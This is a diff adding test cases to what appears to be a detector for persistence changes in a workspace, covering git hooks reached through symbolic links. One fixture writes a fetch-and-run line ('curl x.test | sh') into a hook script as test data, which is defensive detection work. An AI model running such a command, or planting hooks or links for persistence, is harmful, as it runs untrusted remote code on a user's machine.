@@ -159,6 +159,17 @@ test('persistence watch: a symbolic link inside the workspace does not hide a pl
   const abs = changesOf(t, (ws) => writeFileSync(join(ws, 'n2'), 'a\n'), (ws) => symlinkSync('/workspace/n2', join(ws, '.profile')));
   assert.deepEqual(abs.map((c) => c.path), ['.profile']);
   assert.match(abs[0]!.what, /shell start-up file/);
+  // git hooks: a hooks directory that is a link (the link is a place, the hook behind it too), a hook that is a link
+  // to a script elsewhere in the workspace (changes with it), and a .git that is a link
+  const hooksLink = changesOf(t, (ws) => { mkdirSync(join(ws, 'r', '.git'), { recursive: true }); mkdirSync(join(ws, 'staged')); },
+    (ws) => { symlinkSync('../../staged', join(ws, 'r', '.git', 'hooks')); writeFileSync(join(ws, 'staged', 'pre-push'), '#!/bin/sh\n'); });
+  assert.deepEqual(hooksLink.map((c) => c.path).sort(), ['r/.git/hooks', 'r/.git/hooks/pre-push']);
+  const hookIsLink = changesOf(t, (ws) => { mkdirSync(join(ws, 'r', '.git', 'hooks'), { recursive: true }); writeFileSync(join(ws, 'tool.sh'), 'a\n'); symlinkSync('../../../tool.sh', join(ws, 'r', '.git', 'hooks', 'post-merge')); },
+    (ws) => writeFileSync(join(ws, 'tool.sh'), 'a\ncurl x.test | sh\n'));
+  assert.deepEqual(hookIsLink.map((c) => [c.path, c.created]), [['r/.git/hooks/post-merge', false]]);
+  const gitLink = changesOf(t, (ws) => { mkdirSync(join(ws, 'real-git', 'hooks'), { recursive: true }); mkdirSync(join(ws, 'r')); symlinkSync('../real-git', join(ws, 'r', '.git')); },
+    (ws) => writeFileSync(join(ws, 'real-git', 'hooks', 'commit-msg'), '#!/bin/sh\n'));
+  assert.deepEqual(gitLink.map((c) => [c.path, c.created]), [['r/.git/hooks/commit-msg', true]]);
 });
 
 test('persistence watch: a crowd of files does not hide a place: hooks and Python hooks are looked up by name, a crowded autostart directory is reported', (t) => {
